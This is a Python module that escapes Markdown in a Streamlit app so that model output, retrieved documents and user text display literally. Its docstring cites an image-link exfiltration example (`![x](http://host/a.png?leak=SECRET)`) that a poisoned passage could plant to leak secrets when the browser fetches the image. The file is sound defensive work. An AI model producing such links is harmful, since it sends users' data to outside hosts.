"""Text from the model, the documents or a user, shown through Streamlit's Markdown (st.markdown, captions,
expander and button labels) as the literal text it is.

Markdown would turn `![x](http://host/a.png?leak=SECRET)` into an image the browser fetches at once (leaking
whatever the model or a poisoned passage put into the URL), `[x](url)` or a bare URL into a link, `<img>`
into HTML, `:red[..]` into a Streamlit directive. `text` backslash-escapes every character that starts
such a construct, so none can form; emphasis and list markers are left alone (they cannot fetch anything),
and citations still read `[1]`.
"""

from __future__ import annotations

import re

# [ ] ( ) !: links and images (inline and reference); < > &: HTML, autolinks, entities; : @ www.: GFM
# autolink literals, Streamlit icons/colour directives; $: LaTeX; ` \ * _ ~ | #: code, escapes, emphasis,
# tables, headings (harmless, escaped so that the text reads exactly as written)
_SPECIAL = re.compile(r"([\\`*_\[\]()<>!&:@$~|#{}])")
# GFM turns bare URLs, `www.` names and e-mail addresses into links even when their characters are escaped:
# an invisible word joiner inside the marker stops that (the text reads, and wraps, the same)
_AUTOLINK = re.compile(r"(?i)(://|\bwww(?=\.)|@)")
WJ = "\u2060"


def text(s: object) -> str:
    """`s` as Markdown that renders to exactly its characters (line breaks kept)."""
    out = _SPECIAL.sub(r"\\\1", _AUTOLINK.sub(lambda m: m.group(1)[0] + WJ + m.group(1)[1:], str(s)))
    return out.replace("\r\n", "\n").replace("\n", "  \n")


def quote(s: str) -> str:
    """A passage as a Markdown quote that shows its text literally."""
    return "\n".join(f"> {text(line)}  " if line.strip() else ">" for line in s.splitlines())
